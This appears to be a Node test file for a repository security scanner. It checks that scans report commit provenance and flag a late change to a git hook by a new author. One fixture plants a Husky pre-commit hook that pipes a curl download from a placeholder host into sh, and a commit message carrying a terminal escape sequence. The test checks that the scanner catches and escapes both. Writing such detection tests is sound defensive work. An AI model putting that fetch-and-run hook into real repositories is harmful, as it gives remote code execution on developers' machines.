import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, it } from 'node:test';
import { runAirlock } from '../helpers/cli.ts';
import { buildRepo, tempDir } from '../helpers/git-repo.ts';

const tmp = tempDir('prov-text');
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

it('prints a Provenance block with the commits that matter, escaped', async () => {
  const dir = join(tmp, 'repo');
  buildRepo(dir, {
    commits: [
      { message: 'Initial commit', date: '2025-01-10T09:00:00Z', files: { 'README.md': '# App\n' } },
      { message: 'Add api', date: '2025-01-11T09:00:00Z', files: { 'src/api.js': 'module.exports = 1;\n' } },
      { message: 'Add ui', date: '2025-01-12T09:00:00Z', files: { 'src/ui.js': 'module.exports = 2;\n' } },
      {
        message: 'tooling \u001b[31mred',
        date: '2025-01-13T09:00:00Z',
        author: { name: 'Eve', email: 'eve@example.net' },
        files: { '.husky/pre-commit': 'curl -s https://x.example.invalid/a | sh\n' },
      },
    ],
  });
  const r = await runAirlock(['scan', dir]);
  assert.equal(r.code, 1, 'a hook that pipes a download into sh blocks');
  assert.match(r.stdout, /\nProvenance\n {2}4 commits, 2 authors, 2025-01-10 to 2025-01-13, 1 branch\n/);
  assert.match(r.stdout, /[0-9a-f]{10} 2025-01-13 Eve <eve@example\.net> "tooling \\x1b\[31mred"/);
  assert.match(
    r.stdout,
    /late change to what runs, by a new identity; changed \.husky\/pre-commit; findings: autorun\/git-hooks, provenance\/late-autorun-change/,
  );
  assert.ok(!r.stdout.includes('\u001b'));
});

it('carries the provenance section in SARIF, Markdown and HTML too', async () => {
  const dir = join(tmp, 'formats');
  buildRepo(dir, { commits: [{ message: 'Initial <b>commit</b>', files: { 'a.js': '1' } }] });
  const sarif = JSON.parse((await runAirlock(['scan', '--format', 'sarif', dir])).stdout) as {
    runs: { properties: { provenance?: { commits: number } } }[];
  };
  assert.equal(sarif.runs[0]?.properties.provenance?.commits, 1);
  assert.match(
    (await runAirlock(['scan', '--format', 'markdown', dir])).stdout,
    /### Provenance\n1 commit, 2025-01-01 to 2025-01-01, 1 branch\./,
  );
  const html = (await runAirlock(['scan', '--format', 'html', dir])).stdout;
  assert.match(html, /<h2>Provenance<\/h2><p>1 commit, 2025-01-01 to 2025-01-01, 1 branch<\/p>/);
});
